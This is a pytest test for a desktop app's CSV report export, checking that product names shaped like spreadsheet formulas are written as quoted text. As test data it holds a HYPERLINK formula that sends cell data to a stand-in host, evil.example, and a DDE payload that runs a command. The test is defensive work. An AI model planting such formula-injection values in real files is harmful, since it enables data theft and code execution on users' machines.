"""The desktop's report export never writes a cell a spreadsheet would run (issue 24,
point 3): a product named like a formula is exported as text."""

from __future__ import annotations

import csv
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from app.csv_cells import FORMULA_STARTS
from app.store.db import Store, open_store
from app.store.models import Purchase
from app.sync.catalog import upsert_product

pytest.importorskip("PySide6")

from app.ui.reports_view import ReportsView  # noqa: E402

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Details")'


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    s = open_store(tmp_path / "store.db", "pw")
    try:
        yield s
    finally:
        s.close()


def test_desktop_export_of_a_formula_named_product_is_text(
    qtbot,
    store: Store,
    tmp_path: Path,  # type: ignore[no-untyped-def]
) -> None:
    upsert_product(store, "A1", EVIL, "+cmd|' /C calc'!A0", 129)
    now = time.time()
    store.writer.submit(
        lambda s: s.add(Purchase(transaction_id="T", ts=now - 100, barcode="A1", amount=129))
    ).result()
    view = ReportsView(store, zones=["Shoes"])
    qtbot.addWidget(view)
    view.refresh(wait=True)
    assert view.tables["Items"].item(0, 1).text() == EVIL  # shown as it is on screen
    out = tmp_path / "items.csv"
    assert view.export_current(str(out)) == 1
    with out.open(encoding="utf-8", newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert "'" + EVIL in cells and "'+cmd|' /C calc'!A0" in cells
    assert not any(c.startswith(FORMULA_STARTS) for c in cells), cells
    view.shutdown()
